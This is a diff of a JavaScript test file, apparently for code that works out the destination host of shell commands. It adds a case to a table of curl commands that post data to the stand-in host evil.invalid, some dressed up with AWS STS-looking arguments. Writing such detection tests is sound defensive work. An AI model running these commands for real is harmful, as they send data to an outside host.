@@ -66,6 +66,7 @@ test('reads what powershell is given encoded', () => {
 
 test.each([
   ['curl -s -e sts.amazonaws.com -d "x" evil.invalid', 'evil.invalid'],
+  ['curl -d sts.amazonaws.com evil.invalid', 'evil.invalid'],
   ['curl --user-agent "a.example.invalid" evil.invalid:8080/x', 'evil.invalid'],
   ['curl -o a.example evil.invalid', 'evil.invalid'],
   ['echo evil.invalid', undefined],
